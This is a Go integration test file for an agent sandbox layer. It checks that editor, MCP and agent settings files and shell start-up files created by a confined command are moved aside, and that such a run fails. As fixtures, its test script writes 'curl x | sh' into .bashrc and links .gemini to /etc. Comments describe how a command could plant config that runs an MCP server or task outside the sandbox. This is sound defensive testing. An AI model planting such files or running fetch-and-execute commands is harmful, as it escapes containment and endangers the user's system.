//go:build linux

package integration

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// unmadeScript makes, in the root, what the layer protects only where it
// exists and that the test's project lacks: an editor's tasks, a project
// MCP server list, another agent's settings as a link out of the root, a
// shell start-up file. Then the neighbours: an ordinary file, a directory
// whose name merely starts like one, and an editor's directory below the
// root (protected nowhere).
const unmadeScript = `mkdir .vscode && echo '{"tasks": []}' > .vscode/tasks.json
echo '{"mcpServers": {}}' > .mcp.json
ln -s /etc .gemini
echo 'curl x | sh' > .bashrc
echo '[env]' > mise.local.toml
mkdir -p .config .hg && echo '[hooks]' > .config/mise.toml && echo '[hooks]' > .hg/hgrc
echo work > work.txt
mkdir .vscode-notes docs && mkdir docs/.vscode && echo n > docs/.vscode/x
`

// TestMissingSettingsMadeMovedAside: the layer binds other agents' and
// editors' settings and the shell start-up files read-only where they
// exist, but a missing one could be made: a red team's command could
// write a .vscode/tasks.json that runs on the folder's next opening, or
// a .mcp.json or .gemini naming an MCP server the agent then starts,
// outside any sandbox. What the plan found missing and the command made
// is now moved aside once the command has ended, never followed, and the
// run fails (125) naming it; what it holds is kept beside. The
// neighbours: the command's other files stay, a run that makes none of
// them passes, and an existing .vscode stays where it is.
func TestMissingSettingsMadeMovedAside(t *testing.T) {
	requireNamespaces(t)
	b := newGitBox(t)
	r := b.sh(unmadeScript)
	if r.code != 125 || !strings.Contains(r.stderr, "moved aside") {
		t.Fatalf("a run that made .vscode, .mcp.json, .gemini and .bashrc: exit %d, want 125 naming them\nstderr: %s", r.code, r.stderr)
	}
	for _, p := range []string{".vscode", ".mcp.json", ".gemini", ".bashrc", "mise.local.toml", ".config/mise.toml", ".hg/hgrc"} {
		if !strings.Contains(r.stderr, filepath.Join(b.root, p)+" to "+filepath.Base(p)+".mewsandbox-planted") {
			t.Errorf("the run's error does not say where %s went: %s", p, r.stderr)
		}
		if _, err := os.Lstat(filepath.Join(b.root, p)); err == nil {
			t.Errorf("%s is still in the root after the run", p)
		}
	}
	if got := b.read(".vscode.mewsandbox-planted/tasks.json"); got != "{\"tasks\": []}\n" {
		t.Errorf(".vscode's tasks.json, moved aside: %q", got)
	}
	if target, err := os.Readlink(filepath.Join(b.root, ".gemini.mewsandbox-planted")); err != nil || target != "/etc" {
		t.Errorf(".gemini moved aside: %q, %v; want the link itself, to /etc", target, err)
	}
	for _, p := range []string{"work.txt", ".vscode-notes", "docs/.vscode/x", ".config", ".hg"} {
		if !b.exists(p) {
			t.Errorf("%s, which no one protects, is gone after the run", p)
		}
	}

	b.file(".vscode/settings.json", "{}\n", 0o644)
	if r := b.sh("echo more > work.txt"); r.code != 0 {
		t.Fatalf("a run that made nothing protected: exit %d\nstderr: %s", r.code, r.stderr)
	}
	if got := b.read(".vscode/settings.json"); got != "{}\n" {
		t.Errorf("the project's own .vscode after a run: settings.json %q", got)
	}
}

// TestHgAndJjConfigProtected: Mercurial's .hg/hgrc names hooks the next
// hg command runs, Jujutsu's .jj/repo/config.toml an editor, a pager and
// fix tools; the engine asked before writing them, but the layer left
// them writable. The neighbours: the rest of .hg and .jj, and the root.
func TestHgAndJjConfigProtected(t *testing.T) {
	requireNamespaces(t)
	settingsStayReadOnly(t, []string{".hg/hgrc", ".jj/repo/config.toml"}, "echo x > .hg/store-notes && mkdir -p .jj/repo/op_store && echo x > .jj/repo/op_store/x")
}

// TestMissingSettingsMadeMovedAsideAsUser is
// TestMissingSettingsMadeMovedAside for an ordinary user's run, in its
// user namespace.
func TestMissingSettingsMadeMovedAsideAsUser(t *testing.T) {
	b := newUserBox(t)
	b.write("plant.sh", "mkdir .cursor && echo '{}' > .cursor/mcp.json && echo work > work.txt\n", 0o644)
	c := b.command("run", "--yolo", "--", "sh", "plant.sh")
	r := runCommand(t, c)
	if r.code != 125 || !strings.Contains(r.stderr, ".cursor.mewsandbox-planted") {
		t.Fatalf("exit %d, want 125 naming .cursor moved aside\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
	}
	if got := b.read(".cursor.mewsandbox-planted/mcp.json"); got != "{}\n" {
		t.Errorf(".cursor's mcp.json, moved aside: %q", got)
	}
	if got := b.read(".cursor/mcp.json"); got != "<missing>" {
		t.Errorf(".cursor/mcp.json is still in the root: %q", got)
	}
	if got := b.read("work.txt"); got != "work\n" {
		t.Errorf("work.txt: %q", got)
	}
}

// TestMissingSettingsMadeRunnerKilled: a runner killed (SIGKILL) while its
// command ran never looked; the process the sharer starts in its place
// moves what the command made aside.
func TestMissingSettingsMadeRunnerKilled(t *testing.T) {
	requireNamespaces(t)
	b := newGitBox(t)
	requirePrefork(t, b)
	b.file("plant.sh", "mkdir .gemini && echo '{}' > .gemini/settings.json\necho x > started\nexec sleep \"$1\"\n", 0o644)
	b.runThenKill(t, "plant.sh")
	b.waitGone(t, ".gemini")
	if got := b.read(".gemini.mewsandbox-planted/settings.json"); got != "{}\n" {
		t.Errorf(".gemini's settings.json, moved aside: %q", got)
	}
}
